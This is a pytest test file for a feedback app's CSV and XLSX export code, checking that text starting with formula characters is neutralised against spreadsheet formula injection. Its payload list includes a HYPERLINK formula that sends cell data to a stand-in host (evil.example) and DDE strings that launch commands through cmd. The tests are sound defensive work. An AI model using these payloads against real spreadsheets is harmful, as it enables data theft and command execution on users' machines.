"""Text that could run as a spreadsheet formula is neutralised in CSV and XLSX (OWASP):
a leading = + - @ tab CR or LF gets an apostrophe, and XLSX text cells are strings."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from feedback_app.services.reports.exports import Percent, Sheet, csv_line, csv_lines, write_xlsx
from feedback_app.services.reports.spreadsheet_safety import neutralise, neutralise_text

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_each_risky_first_character_gets_an_apostrophe(start):
    assert neutralise(start + "1+1") == "'" + start + "1+1"
    assert neutralise_text(start + "x") == "'" + start + "x"


def test_spaces_in_front_do_not_hide_a_formula():
    assert neutralise("   =1+1") == "'   =1+1"


@pytest.mark.parametrize(
    "value",
    ["Police", "", "2+3", "a=b", "someone@example.org", "O'Brien", "50%", "12", " spaced", "fewer than 5", "Łódź"],
)
def test_harmless_text_is_left_alone(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [0, 7, -2, 0.38, None, True])
def test_numbers_and_none_are_not_text(value):
    assert neutralise(value) is value


def test_neutralise_text_is_always_text():
    assert neutralise_text(None) == ""
    assert neutralise_text(12) == "12"


def test_csv_lines_neutralise_every_text_value():
    text = "".join(csv_lines(["Theme", "Number"], [[payload, 3] for payload in PAYLOADS]))
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert rows[0] == ["Theme", "Number"]
    assert [row[0] for row in rows[1:]] == ["'" + payload for payload in PAYLOADS]
    assert all(row[1] == "3" for row in rows[1:])


def test_csv_percent_is_written_as_shown():
    assert csv_line(["Yes", 5, Percent(0.5, "50%"), ""]) == "Yes,5,50%,\r\n"


def test_xlsx_text_cells_are_strings_with_an_apostrophe():
    file, rows = write_xlsx(
        [Sheet("=Sheet", ["=Theme", "Number", "Per cent"], [[payload, 4, Percent(0.25, "25%")] for payload in PAYLOADS])]
    )
    assert rows == len(PAYLOADS)
    with file:
        workbook = load_workbook(file)
    sheet = workbook.worksheets[0]
    assert sheet.title == "=Sheet"  # a sheet name is never evaluated
    header = [cell for cell in sheet[1]]
    assert header[0].value == "'=Theme" and header[0].data_type == "s"
    for row, payload in zip(sheet.iter_rows(min_row=2), PAYLOADS):
        text, number, percent = row
        assert text.data_type == "s", payload
        assert text.value.startswith("'") and text.value[1:] == payload.replace("\r", "\n")  # XML keeps LF
        assert number.data_type == "n" and number.value == 4
        assert percent.data_type == "n" and percent.value == 0.25 and percent.number_format == "0%"


def test_xlsx_never_holds_a_formula():
    file, _rows = write_xlsx([Sheet("S", ["a"], [["=1+1"], ["=cmd"]])])
    with file:
        raw = file.read()
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    assert 't="inlineStr"' in sheet_xml


def test_xlsx_drops_characters_xml_cannot_hold():
    file, _rows = write_xlsx([Sheet("S", ["a"], [["bell\x07 and nul\x00"]])])
    with file:
        sheet = load_workbook(file).worksheets[0]
    assert sheet["A2"].value == "bell and nul"
